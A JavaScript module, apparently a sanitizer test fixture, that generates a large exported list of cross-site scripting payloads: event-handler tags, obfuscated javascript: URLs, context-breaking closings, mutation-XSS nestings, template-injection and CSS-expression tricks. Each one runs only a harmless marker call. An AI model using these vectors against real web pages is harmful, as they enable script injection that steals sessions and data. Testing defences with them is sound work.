// Texts that run a script wherever a page is careless with them: every way in, in every disguise.

const CALL = "globalThis.ran?.push(1)";
const EVENTS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin", "onpointerenter", "onbeforeinput"];
const TAGS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "marquee", "a href=x", "select autofocus", "animate", "object data=x", "audio src=x", "embed src=x", "math", "form", "keygen autofocus"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:", "data:text/html,<script>", "view-source:javascript:"];
const CLOSINGS = ["", '">', "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</svg>", "</template>", "</noscript>", "*/"];

const handlers = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${CALL}>`));
const addresses = SCHEMES.flatMap((scheme) => [`${scheme}${CALL}`, `<a href="${scheme}${CALL}">x</a>`, `<iframe src="${scheme}${CALL}">`, `[x](${scheme}${CALL})`]);
const broken = CLOSINGS.flatMap((closing) => [`${closing}<script>${CALL}</script>`, `${closing}<img src=x onerror=${CALL}>`, `${closing}<svg/onload=${CALL}>`]);
const disguised = [
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img src=x onerror\n=\n${CALL}>`,
  `<IMG """><SCRIPT>${CALL}</SCRIPT>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<form id=x></form><button form=x formaction="javascript:${CALL}">x`,
  `<template><script>${CALL}</script></template>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${CALL}</script></svg>#x">`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${CALL})}">`,
  `<style>@import 'javascript:${CALL}';</style>`,
  `<base href="javascript:${CALL}//">`,
  `\u202E<img src=x onerror=${CALL}>`,
  `<img src=x onerror=&#0000103lobalThis.ran?.push(1)>`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `__proto__`,
  `constructor`,
];

/** All of them, each once. */
export const HOSTILE = [...new Set([...handlers, ...addresses, ...broken, ...disguised])];
